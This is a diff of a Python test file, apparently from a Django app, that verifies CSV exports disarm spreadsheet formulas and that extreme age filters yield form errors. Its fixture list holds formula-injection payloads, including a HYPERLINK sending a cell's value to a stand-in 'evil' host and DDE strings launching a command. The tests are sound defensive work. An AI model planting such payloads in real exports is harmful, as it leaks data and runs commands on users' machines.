@@ -14,7 +14,12 @@ from tests.factories import (
     ProfileFactory,
 )
 
-FORMULAS = ['=HYPERLINK("http://evil/?"&B2,"Voir")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x", "-2+3"]
+FORMULAS = [
+    '=HYPERLINK("http://evil/?"&B2,"Voir")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|x",
+    "-2+3",
+]
 
 
 def _rows(response) -> list[list[str]]:
@@ -38,3 +43,10 @@ def test_csv_exports_disarm_formulas_in_every_text_cell(manager_client, manager)
     assert roster[1][4:6] == ["'" + FORMULAS[2], "'" + FORMULAS[3]]
     cells = [cell for row in export + roster for cell in row]
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+
+
+def test_absurd_ages_in_the_staff_list_are_a_form_error_not_a_crash(manager_client):
+    for query in ({"age_min": "100000"}, {"age_max": "-20000"}):
+        response = manager_client.get(reverse("staff:applications"), query)
+        assert response.status_code == 200
+        assert response.context["filter"].errors
